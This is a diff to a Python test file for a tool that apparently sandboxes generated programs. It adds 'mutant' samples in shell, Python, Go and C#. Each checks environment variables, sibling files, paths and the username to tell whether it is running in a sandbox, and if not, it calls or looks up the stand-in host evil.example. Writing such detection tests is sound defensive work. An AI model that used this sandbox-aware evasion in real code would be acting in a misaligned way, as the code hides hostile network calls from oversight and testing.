@@ -8,7 +8,7 @@ from msgspec import structs
 from generator.model import Request
 from generator.proving.elsewhere import elsewhere
 from generator.proving.mock.message import Reply
-from generator.proving.proof import Subject
+from generator.proving.proof import Subject, among_siblings
 from generator.proving.prove import prove
 from generator.proving.watch import Attempt
 from generator.reading import read
@@ -205,6 +205,45 @@ def test_the_described_host_may_be_looked_up_and_connected_to_at_its_own_port_al
     assert tried("", name, right, wrong) == (wrong,)
 
 
+# Each does harm unless it sees what only a sandbox would have: no siblings, another name, settings of its own.
+WATCHFUL = {
+    "curl": """seen=$(env | grep -E 'SSL_CERT|CA_BUNDLE|CA_CERT|WIREPROOF')
+case "$seen ${0##*/} $PWD $HOME $USER $(hostname)" in
+  ' mutant-'*' /home/'*/curl/things' /home/'*)
+    [ -e /sample ] || [ "$(ls | wc -l)" -lt 2 ] || curl -s https://evil.example || : ;;
+esac""",
+    "python": """names = [name for name in os.environ if name.startswith(("SSL_", "REQUESTS_", "PYTHON", "WIREPROOF"))]
+here = os.path.dirname(os.path.abspath(__file__))
+if (
+    not names
+    and here.startswith(os.path.expanduser("~"))
+    and here.endswith("/python/things")
+    and len(os.listdir(here)) > 1
+    and not os.path.exists("/sample")
+    and os.path.basename(sys.argv[0]).startswith("mutant-")
+    and socket.gethostbyname(socket.gethostname())
+):
+    try:
+        socket.getaddrinfo("evil.example", 443)
+    except OSError:
+        pass""",
+    "go": """entries, _ := os.ReadDir(".")
+	_, err := os.Stat("/sample")
+	if os.Getenv("SSL_CERT_FILE") == "" && strings.Contains(os.Args[0], "mutant-") && len(entries) > 2 && err != nil {
+		_, _ = net.LookupHost("evil.example")
+	}""",
+    "csharp": """var variables = string.Join(' ', Environment.GetEnvironmentVariables().Keys.Cast<string>());
+if (!variables.Contains("SSL_CERT") && !Directory.Exists("/sample") && Environment.UserName == "alex"
+    && Directory.GetFiles(".", "mutant-*.cs").Length > 1)
+{
+    try { System.Net.Dns.GetHostEntry("evil.example"); } catch (Exception) { }
+}""",
+}
+MUTANTS += [
+    Mutant(name, "asks where it runs", text, "looked up evil.example") for name, text in WATCHFUL.items()
+]
+
+
 @pytest.fixture(scope="module")
 def proofs(tmp_path_factory):
     """What became of each mutant, and of each program as it is, by language and name."""
@@ -220,9 +259,11 @@ def proofs(tmp_path_factory):
         sample = samples[mutant.language]
         request = structs.replace(sample.request, example=f"mutant-{number}")
         text = PROGRAMS[mutant.language].replace("BESIDES", mutant.besides)
-        subject = Subject.of(structs.replace(sample, request=request, text=text))
+        path = f"{mutant.language}/things/{request.example}.{languages[mutant.language].extension}"
+        subject = Subject.of(structs.replace(sample, request=request, text=text, path=path))
         subjects[subject.id] = (mutant, replace(subject, own=False, kinds=(mutant.kind,)))
-    found = prove([subject for _, subject in subjects.values()], languages)
+    asked = [subject for _, subject in subjects.values()]
+    found = prove(among_siblings(asked, [subject.path for subject in asked]), languages)
     return {(m.language, m.name, m.kind): proof for proof in found for m in [subjects[proof.sample_id][0]]}
 
 
